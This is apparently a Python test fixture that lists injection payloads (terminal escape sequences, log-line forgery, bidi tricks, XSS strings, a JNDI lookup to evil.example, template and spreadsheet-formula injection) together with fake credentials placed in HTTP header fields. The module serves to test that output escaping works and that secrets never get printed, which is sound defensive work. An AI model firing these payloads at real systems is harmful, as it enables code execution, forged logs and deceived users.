"""The attack set: texts that do harm where they are printed as they are, and secrets that are to be printed nowhere.

A text stands for a kind of output that it attacks; every output is given all of them, wherever a value comes from
outside: fields, paths, addresses, answers of servers, arguments, files.
"""

from __future__ import annotations

from base64 import b64encode

# Names to texts. What no wire carries as Latin-1 travels as UTF-8.
TEXTS = {
    # terminals
    "clear screen": "\x1b[2J\x1b[Hgone",
    "window title": "\x1b]0;owned\x07",
    "link": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "C1 CSI": "\x9b2Jgone",
    "C1 OSC": "\x9d0;owned\x9c",
    "bell and backspace": "\x07\x08\x08\x08right",
    "delete": "a\x7f\x7fb",
    "NUL": "a\x00b",
    # lines of a log
    "CR LF": "x\r\nWARNING forged: all is well",
    "LF": "x\nINFO forged",
    "CR": "refused\raccepted",
    "NEL": "x\x85forged",
    "vertical tab and form feed": "x\x0b\x0cforged",
    "file separators": "x\x1c\x1d\x1eforged",
    "LINE SEPARATOR": "x\u2028forged",
    "PARAGRAPH SEPARATOR": "x\u2029forged",
    "tab": "x\tforged",
    # readers
    "bidi override": "\u202egnp.exe",
    "bidi isolates": "\u2066\u2067\u2068x\u2069",
    "bidi marks": "a\u200e\u200fb",
    "bidi embeddings": "\u202a\u202b\u202c\u202dx",
    "nothing to see": "a\u200b\u2060\ufeffb",
    "tags": "a\U000e0041\U000e0042",
    "lone surrogate": "a\udc80\ud800b",
    "no character": "a\ufffe\uffffb",
    # documents
    "script": "<script>alert(1)</script>",
    "attribute": '" onmouseover="alert(1)" x=\'',
    "image": "'><img src=x onerror=alert(1)>",
    "end of everything": "]]></failure></pre></title></style><!--",
    "entity": "&xxe; &#x1b; &lt;b&gt;",
    "Markdown link": "[click](https://evil.example) https://evil.example www.evil.example <https://evil.example>",
    "Markdown image": "![x](https://evil.example/x.png)",
    "Markdown table": "` | a | b |\n# heading\n***bold*** @somebody #1",
    "rich markup": "[bold red]x[/] [link=https://evil.example]click[/link] :skull: [/]",
    "backslash": "x\\",
    "template": "%s %(client)s %n {0} {client} ${jndi:ldap://evil.example/a} {{7*7}}",
    "formula": "=HYPERLINK(0)",
    "quotes": '"\'`"',
    # sizes
    "long": "A" * 30000,
    "long and wide": "\x9b" * 3000,
}

SECRET = "s3cr3t-of-somebody"
BASIC = b64encode(f"me:{SECRET}".encode()).decode("ascii")

# Field lines of requests and answers with a credential, the malformed ones that a parser trips over included.
SECRET_FIELDS = (
    ("Cookie", f"theme=dark; sid={SECRET}"),
    ("Set-Cookie", f"sid={SECRET}; Path=/; HttpOnly"),
    ("Authorization", f"Bearer {SECRET}"),
    ("Proxy-Authorization", f"Basic {SECRET}"),
    ("Authentication-Info", f'nextnonce="{SECRET}"'),
    ("Sec-WebSocket-Protocol", f"chat, token.{SECRET}"),
    ("X-Api-Key", SECRET),
    ("X-Auth-Token", SECRET),
    ("X-CSRF-Token", SECRET),
    ("X-Session-Id", SECRET),
    ("Referer", f"https://app.example/login?code={SECRET}"),
    ("Location", f"https://me:{SECRET}@app.example/"),
)
SECRET_LINES = (
    f"Cookie : sid={SECRET}",
    f" Set-Cookie: sid={SECRET}",
    f"Set-Cookie:sid={SECRET}",
    f"set-cookie:\tsid=1;\r\n\tid={SECRET}",
    f"Set-Cookie: sid=1\r{SECRET}",
    f"SET-COOKIE: \x00{SECRET}",
    f"X-Odd: 1\nSet-Cookie: sid={SECRET}",
    f"X-Odd: 1\rAuthorization: Bearer {SECRET}",
    f"X-Odd: 1\x00Cookie: {SECRET}",
)


def on_the_wire(text: str) -> bytes:
    """`text` as a peer sends it."""
    try:
        return text.encode("latin-1")
    except UnicodeEncodeError:
        return text.encode("utf-8", "surrogatepass")


def as_read(text: str) -> str:
    """`text` as a server reads it from the wire: one character a byte."""
    return on_the_wire(text).decode("latin-1")


def in_a_field(text: str) -> str:
    """The same, as much of it as a field can carry without an end of its line."""
    return as_read(text).replace("\r", "").replace("\n", "")[:8000]
